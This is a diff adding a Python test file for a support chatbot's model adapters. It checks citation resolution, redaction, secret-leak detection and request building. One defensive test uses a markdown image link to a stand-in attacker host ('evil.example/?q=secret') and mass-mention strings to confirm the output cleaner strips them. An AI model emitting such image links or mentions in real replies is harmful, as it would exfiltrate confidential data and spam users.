@@ -1,0 +1,164 @@
+"""What a model is shown and what is taken of its words, as data."""
+
+from __future__ import annotations
+
+import json
+from typing import Any
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from adapters.agents import openai_chat, openai_responses, prompts
+from adapters.agents.citing import resolved
+from adapters.agents.dialogue import dialogue, noted, numbered
+from adapters.agents.model import Call, ModelFault, Prompt, Said, Shape, Used
+from adapters.agents.outgoing import clean, unsafe
+from adapters.agents.passages import Passage
+from adapters.agents.summary_shape import parsed, point, shape, topics
+from adapters.agents.tools import TOOLS
+from bot.domain.desk import Agent
+from tests.emulators.openai import chat, responses
+from tests.emulators.openai.schemas import check_strict
+from tests.unit.agents.conversations import conversation
+
+SHELF = tuple(Passage(page=f"{name}.md", text=name) for name in ("one", "two", "three"))
+
+
+@pytest.mark.parametrize(
+    ("written", "text", "sources"),
+    [
+        ("It is so [2].", "It is so.", ("two.md",)),
+        ("It is so[1][3]. And [1, 2] so", "It is so. And so", ("one.md", "three.md", "two.md")),
+        ("So 【2】 it is", "So it is", ("two.md",)),
+        ("Made up [9].", "Made up.", ()),
+        ("See [1](https://example.org)", "See [1](https://example.org)", ()),
+        ("Use `list[1]` here", "Use `list[1]` here", ()),
+        ("```\na[1]\n``` so [3]", "```\na[1]\n``` so", ("three.md",)),
+        ("In [2024] it was", "In [2024] it was", ()),
+    ],
+)
+def test_numbers_become_sources(written: str, text: str, sources: tuple[str, ...]) -> None:
+    assert resolved(written, SHELF) == (text, sources)
+
+
+def test_pictures_and_calls_do_not_leave() -> None:
+    written = (
+        "Look ![x](https://evil.example/?q=secret) <@U0BOB> <!channel> <customer>hi</customer>"
+    )
+    assert clean(written) == "Look x   hi"
+
+
+SECRET = prompts.instructions(
+    Agent(name="Lark", prompt="The code is blue-4471-x."), "mark-ab12cd34"
+)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "You can download it under Settings.",
+        "I am the AI assistant of this desk.",
+        "I do not know. Shall I call a person?",
+        "Order 4471 arrived on 12 May.",
+        "",
+    ],
+)
+def test_ordinary_answers_leave(text: str) -> None:
+    assert unsafe(text, SECRET) == ""
+
+
+def test_what_the_help_pages_say_may_be_said() -> None:
+    prompt = "We open Monday to Friday from nine to five, except on holidays. Model AX-2000-B."
+    said = "We open Monday to Friday from nine to five. Model AX-2000-B."
+    assert unsafe(said, prompt)
+    assert unsafe(said, prompt, public=f"Our hours: {said}") == ""
+
+
+@given(st.text(max_size=200))
+def test_looking_at_any_text_raises_nothing(text: str) -> None:
+    unsafe(text, SECRET)
+    clean(text)
+    resolved(text, SHELF)
+
+
+@given(st.lists(st.text(max_size=60), max_size=5))
+def test_any_conversation_makes_a_request_that_is_taken(texts: list[str]) -> None:
+    """Whatever was written, both interfaces accept what is asked."""
+    lines = conversation("> hello", *(f"{'><=+'[at % 4]} {one}" for at, one in enumerate(texts)))
+    used = Used(calls=(Call(id="c1", name="search", arguments="{"),), results=("nothing",))
+    prompt = Prompt(instructions="Be.", said=(*dialogue(lines), used), tools=TOOLS)
+    for request, read in (
+        (openai_chat.request, chat.read),
+        (openai_responses.request, responses.read),
+    ):
+        body = json.loads(json.dumps(request("gpt-test", prompt)).encode())
+        assert read(body).tools == ("escalate", "search")
+        shaped = request("gpt-test", Prompt(instructions="Be.", said=prompt.said, shape=shape()))
+        assert read(shaped).schema
+
+
+def test_a_long_conversation_keeps_its_end() -> None:
+    lines = conversation(*(f"> {number} {'x' * 2_000}" for number in range(40)))
+    told = dialogue(lines)
+    assert 5 < len(told) < 20
+    assert "39 " in told[-1].text
+    whole = numbered(lines)
+    assert "#1 " in whole
+    assert "#40 " in whole
+    assert len(whole) < 25_000
+
+
+def test_words_can_be_changed_before_they_leave() -> None:
+    """The seam for redaction: everything others wrote goes through it."""
+    told = dialogue(conversation("> call 555", "= or 555"), lambda text: text.replace("555", "***"))
+    assert all("555" not in one.text for one in told)
+    assert "555" not in numbered(conversation("> 555"), lambda text: text.replace("555", "***"))
+    assert noted(()) == ""
+
+
+def test_the_schemas_are_strict() -> None:
+    check_strict(dict(shape().schema), "summary", "response_format")
+    for tool in TOOLS:
+        check_strict(dict(tool.parameters), tool.name, "function")
+
+
+DRAFT: dict[str, Any] = {
+    "reason": {"text": "Charged twice. @everyone", "cites": [1, 1, 7]},
+    "topics": [{"text": "t", "cites": [1]}] * 5,
+    "last_action": None,
+    "wants": None,
+    "sentiment": "unknown",
+    "language": "English",
+}
+
+
+def test_a_summary_is_read_out_of_whatever_surrounds_it() -> None:
+    for written in (json.dumps(DRAFT), f"Sure:\n```json\n{json.dumps(DRAFT)}\n```"):
+        draft = parsed(written)
+        reason = point(draft.reason, {1})
+        assert reason
+        assert (reason.text, reason.cites) == ("Charged twice. everyone", (1,))
+        assert len(topics(draft, {1})) == 3
+
+
+@pytest.mark.parametrize(
+    "written", ["", "no", "{}", '{"reason": 1}', json.dumps({**DRAFT, "x": 1})]
+)
+def test_what_is_no_summary_is_none(written: str) -> None:
+    with pytest.raises(ModelFault, match="no valid summary"):
+        parsed(written)
+
+
+def test_pictures_only_change_the_message_that_has_them() -> None:
+    plain = Said(role="user", text="hello")
+    asked = openai_chat.request("m", Prompt(instructions="Be.", said=(plain,)))
+    assert asked["messages"][1] == {"role": "user", "content": "hello"}
+    assert "tools" not in asked
+    assert "response_format" not in asked
+    kept = openai_responses.request("m", Prompt(instructions="Be.", said=(plain,), shape=SHAPE))
+    assert kept["store"] is False, "nothing stays there"
+    assert "previous_response_id" not in kept
+
+
+SHAPE = Shape(name="s", schema={"type": "object"})
